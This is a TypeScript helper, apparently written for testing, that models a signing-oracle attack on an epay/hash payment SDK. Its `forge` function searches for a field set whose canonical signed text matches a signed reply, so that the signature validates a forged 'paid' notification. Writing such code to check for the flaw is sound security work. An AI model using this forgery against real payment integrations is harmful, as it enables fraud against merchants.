// The attacker's side of a signing oracle, written independently of src/: given the exact text a
// reply's signature covers (`k=v&k=v`, sorted, raw values), find a field set whose canonical text
// is the same string and that carries the pairs a merchant's notification handler looks for. If
// one exists, the reply's signature is a valid signature of a forged "paid" notification.

/** The canonical text an epay/hash SDK signs: sorted keys, non-empty values, `k=v` joined by `&`. */
export function canonical(fields: Record<string, unknown>, excluded: readonly string[]): string {
  return Object.keys(fields)
    .filter((k) => !excluded.includes(k) && fields[k] !== "" && fields[k] !== null && fields[k] !== undefined)
    .sort((a, b) => (a < b ? -1 : a > b ? 1 : 0))
    .map((k) => `${k}=${fields[k]}`)
    .join("&");
}

/**
 * A field set F with canonical(F) === text that contains every pair of `want`, or null. Each piece
 * of F starts at the beginning of `text` or right after an `&`, its key runs to the first `=`, its
 * value to an `&` (or the end), values are non-empty and keys strictly ascending.
 */
export function forge(text: string, want: Record<string, string>): Record<string, string> | null {
  const wanted = Object.keys(want);
  const full = (1 << wanted.length) - 1;
  const amps: number[] = [];
  for (let i = 0; i < text.length; i++) if (text[i] === "&") amps.push(i);
  const dead = new Set<string>();

  const search = (start: number, lastKey: string | null, mask: number): Record<string, string> | null => {
    const memo = `${start}|${lastKey}|${mask}`;
    if (dead.has(memo)) return null;
    const eq = text.indexOf("=", start);
    const key = eq < 0 ? "" : text.slice(start, eq);
    if (key !== "" && (lastKey === null || key > lastKey)) {
      for (const end of [...amps.filter((a) => a > eq), text.length]) {
        const value = text.slice(eq + 1, end);
        if (value === "") continue;
        const i = wanted.indexOf(key);
        const m = i >= 0 && want[key] === value ? mask | (1 << i) : mask;
        if (end === text.length) {
          if (m === full) return { [key]: value };
          continue;
        }
        const rest = search(end + 1, key, m);
        if (rest) return { [key]: value, ...rest };
      }
    }
    dead.add(memo);
    return null;
  };
  return text === "" ? null : search(0, null, 0);
}
